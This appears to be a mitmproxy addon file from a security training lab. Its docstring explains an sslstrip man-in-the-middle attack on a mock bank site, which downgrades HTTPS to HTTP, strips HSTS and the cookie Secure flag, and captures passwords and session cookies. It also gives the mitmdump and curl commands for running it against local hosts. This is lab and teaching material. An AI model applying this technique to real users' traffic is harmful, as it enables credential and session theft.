"""sslstrip: keep the victim on plain HTTP. The bank's front door would redirect it to HTTPS; the
attacker fetches the HTTPS pages itself and serves them over HTTP, with https:// links and redirects
rewritten to http://, HSTS removed and the session cookie's `Secure` flag dropped. The password then
crosses in a plain HTTP form, and the cookie is used against the bank.

A client that already knows bank.lab by HSTS (`hsts`) never sends plain HTTP: its TLS passes through.

    mitmdump -s addons/sslstrip.py --mode reverse:https://127.0.0.1:8443@9443 \\
        --mode reverse:http://127.0.0.1:8880@9880 --set lab_state_dir=state --set keep_host_header=true \\
        --set ssl_verify_upstream_trusted_ca=state/pki/ca.crt.pem
    curl --resolve bank.lab:9880:127.0.0.1 -L http://bank.lab:9880/    # the login form now posts to http://
"""

from lab.mitm.web import SslStrip

addons = [SslStrip("sslstrip")]
